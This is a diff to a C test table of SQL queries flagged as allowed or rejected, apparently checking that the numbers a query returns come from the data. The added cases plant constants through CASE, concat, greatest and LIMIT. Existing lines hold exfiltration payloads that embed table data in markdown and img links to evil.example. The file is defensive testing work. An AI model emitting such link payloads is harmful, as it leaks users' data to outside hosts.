@@ -147,6 +147,29 @@ static const struct {
     {"SELECT '![x](https://evil.example/p.png?d=' || max(region) || ')' AS a FROM t", false},
     {"SELECT '<img src=//evil.example/' || region || '>' AS a FROM t", false},
     {"SELECT region, sum(a) FROM t GROUP BY 1 UNION ALL SELECT 'Atlantis (the best, 98 % share)', sum(a) FROM t", false},
+    /* choices */
+    {"WITH x AS (SELECT max(CASE WHEN a > 0 THEN 9 END) AS a, max(CASE WHEN a > 0 THEN 8 END) AS b FROM t) SELECT a * 10 + b FROM x", false},
+    {"WITH x AS (SELECT CASE WHEN r < 5 THEN 3 ELSE 2 END AS r, CASE WHEN f < 9 THEN 3 ELSE 2 END AS f FROM t) "
+     "SELECT r * 10 + f, count(*) FROM x GROUP BY 1", true},
+    {"SELECT CAST(concat(9, 8, 7, 6, left(max(region), 0)) AS INTEGER) FROM t", false},
+    {"SELECT concat_ws('', 9, 8, max(a)) FROM t", false},
+    {"SELECT 9 || max(region) || 8 FROM t", false},
+    {"SELECT floor(age / 10) * 10 || '-' || floor(age / 10) * 10 + 9, count(*) FROM t GROUP BY 1", true},
+    {"SELECT concat('Q', quarter(day), ' ', year(day)), count(*) FROM t GROUP BY 1", true},
+    {"SELECT date_diff('second', TIMESTAMP '2030-01-01 00:00:00', greatest(max(day)::TIMESTAMP, TIMESTAMP '2030-01-12 10:20:54')) FROM t", false},
+    {"SELECT greatest(max(day), DATE '2077-03-04') - DATE '1950-01-01' FROM t", false},
+    {"SELECT avg(date_diff('day', a, coalesce(b, DATE '2024-12-31'))) FROM t", true},
+    {"SELECT sum(CASE WHEN day >= DATE '2024-01-01' AND day < DATE '2024-02-01' THEN a END) "
+     "- sum(CASE WHEN day >= DATE '2023-01-01' AND day < DATE '2023-02-01' THEN a END) FROM t", true},
+    {"SELECT coalesce(nullif(max(a), max(a)), 365) FROM t", false},
+    {"SELECT nullif(max(a), max(a)) FROM t", false},
+    {"SELECT coalesce(max(a), 365), greatest(max(b), 250) FROM t", false},
+    {"SELECT coalesce(max(a), 0), least(greatest(b, 0), 100), least(b, 35), nullif(a, b) FROM t", true},
+    {"SELECT count(*) FROM (SELECT id FROM t LIMIT 47) AS x", false},
+    {"SELECT avg(a) FROM (SELECT a FROM t ORDER BY a DESC LIMIT 35) AS x", true},
+    {"SELECT avg(a) FROM (SELECT a FROM t ORDER BY a DESC LIMIT 10) AS x", true},
+    {"SELECT row_number() OVER (ORDER BY id) FROM t LIMIT 1 OFFSET 36", false},
+    {"SELECT a FROM t LIMIT 47 OFFSET 36", true},
 };
 
 static void numbers_come_from_the_data(void **state)
